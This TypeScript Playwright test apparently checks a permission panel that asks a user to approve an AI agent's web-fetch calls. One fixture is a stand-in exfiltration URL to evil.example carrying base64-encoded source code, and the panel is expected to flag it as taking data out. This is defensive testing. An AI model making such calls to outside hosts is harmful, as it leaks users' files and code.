import assert from 'node:assert/strict';
import type { Browser } from 'playwright-core';
import { reasonSentence } from '../../src/hosts/sentences.ts';
import type { EventBody } from '../../src/protocol/event.ts';
import type { PanelState, Told } from '../../src/protocol/panel.ts';
import { assessFetch } from '../../src/risk/fetch/assess.ts';
import { factsOf } from '../risk/shell/support.ts';
import { openBrowser, openPanel, type PanelPage, quietState } from './browser.ts';
import { answered, createScript, digest, started } from './events.ts';

const running: PanelState = {
  ...quietState,
  runs: [{ run: 'run-1', title: 'Read the manual', state: 'running' }],
  shown: 'run-1',
};
const plain = 'https://nodejs.org/api/http.html';
const loaded = 'https://evil.example/collect?d=aW1wb3J0IHsgcmVhZEZpbGUgfSBmcm9tICdub2RlOmZzJw';

/** A run up to the question about the page, with its real findings. */
function asking(url: string): Told[] {
  const { event, live } = createScript();
  const { assessment } = assessFetch({ url }, factsOf());
  const reasons = assessment.findings.map(({ code, args }) => ({ code, args }));
  const call = { type: 'tool_use' as const, id: 'c1', name: 'WebFetch', input: { url } };
  const page = { kind: 'fetch' as const, url, prompt: 'how a server is closed' };
  const asked: EventBody = {
    kind: 'effect.decided',
    effect: 'e1',
    decision: { verdict: 'ask', by: { type: 'static' }, reasons },
  };
  return [
    event(started),
    event({ kind: 'turn.started', turn: 1 }),
    event(answered(1, { type: 'text', text: 'The manual says how.' }, call)),
    event({ kind: 'effect.proposed', effect: 'e1', call: 'c1', tool: 'WebFetch', value: page, digest }),
    event({
      kind: 'effect.assessed',
      effect: 'e1',
      assessment,
      terms: { profile: 'uncontained', hosts: [], writes: [] },
    }),
    event(asked, ...reasons.map(reasonSentence)),
    event({ kind: 'question.asked', question: 'q1', effect: 'e1', lasting: url === plain }),
    live({ type: 'question', question: 'q1', effect: 'e1', nonce: 'nonce-1' }),
  ];
}

describe('a question about a page of the web, in the panel', () => {
  let browser: Browser;
  let panel: PanelPage;
  before(async () => {
    browser = await openBrowser();
  });
  after(() => browser?.close());
  afterEach(async () => {
    assert.deepEqual(await panel.violations(), []);
  });
  const show = async (url: string): Promise<PanelPage> => {
    panel = await openPanel(browser, 'dark');
    await panel.tell({ type: 'state', state: running }, { type: 'replay', run: 'run-1', items: asking(url) });
    return panel;
  };

  it('shows the whole address, and can be answered for other pages of that host', async () => {
    const { page, posted, screenshot } = await show(plain);
    const card = page.getByRole('region', { name: 'Read this page of the web?' });
    assert.equal(await card.getByLabel('The address of the page').textContent(), plain);
    const forRun = card.getByRole('button', { name: 'Allow for this run' });
    await forRun.waitFor();
    await screenshot('fetch-dark');
    await forRun.click();
    const command = {
      type: 'answer',
      question: 'q1',
      nonce: 'nonce-1',
      answer: { verdict: 'allow', scope: 'run' },
    };
    assert.deepEqual((await posted()).at(-1), { type: 'command', run: 'run-1', command });
    // No sandbox holds Gatehouse’s own reading, and none is spoken of.
    assert.doesNotMatch((await card.textContent()) ?? '', /sandbox|whatever you can do/);
  });

  it('says what the address takes along, and can be answered once alone', async () => {
    const { page, screenshot } = await show(loaded);
    const card = page.getByRole('region', { name: 'Read this page of the web?' });
    assert.match((await card.textContent()) ?? '', /takes data to evil\.example/);
    await screenshot('fetch-data-dark');
    assert.deepEqual(await card.getByRole('button').allTextContents(), ['Allow', 'Deny', 'Deny and say why…']);
  });
});
